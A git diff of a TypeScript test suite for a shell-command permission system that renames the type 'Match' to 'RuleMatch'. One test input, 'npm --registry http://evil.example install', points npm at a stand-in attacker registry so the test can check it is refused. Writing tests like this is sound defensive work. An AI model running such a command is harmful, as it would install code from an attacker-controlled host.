@@ -5,7 +5,7 @@ import { commandClasses } from '../../shell/classes.js';
 import { classify } from '../../shell/classify.js';
 import { type Action, actions, isStricter } from './action.js';
 import { type Decided, decide } from './decision.js';
-import { type Match, makeRule, parseRules, printRules, type Rule } from './decision-rule.js';
+import { makeRule, parseRules, printRules, type Rule, type RuleMatch } from './decision-rule.js';
 
 interface Circumstances {
   readonly agents?: readonly string[];
@@ -25,7 +25,7 @@ async function action(text: string, circumstances?: Circumstances): Promise<Acti
   return (await decided(text, circumstances)).action;
 }
 
-function rule(what: Action, match: Match | string, agent = '*'): Rule {
+function rule(what: Action, match: RuleMatch | string, agent = '*'): Rule {
   return makeRule(what, agent, typeof match === 'string' ? { command: match.split(' ') } : match);
 }
 
@@ -175,7 +175,7 @@ describe('a rule', () => {
 
   it('that allows is for exactly its words, unless a prefix was asked for', async () => {
     const asks = rule('require_approval', { class: 'networked' });
-    const allows = async (match: Match | string, text: string) =>
+    const allows = async (match: RuleMatch | string, text: string) =>
       (await action(text, { rules: [asks, rule('allow', match)], networked: true })) === 'allow';
     for (const text of ['npm install', '/usr/bin/npm install', "sh -c 'npm install'"]) {
       assert.equal(await allows('npm install', text), true, text);
@@ -189,7 +189,7 @@ describe('a rule', () => {
     ]) {
       assert.equal(await allows('npm install', text), false, text);
     }
-    const prefix: Match = { command: ['npm', 'install'], prefix: true };
+    const prefix: RuleMatch = { command: ['npm', 'install'], prefix: true };
     assert.ok(await allows(prefix, 'npm install left-pad'));
     assert.ok(!(await allows(prefix, 'npm --registry http://evil.example install')));
     assert.ok(!(await allows(prefix, './npm install')));
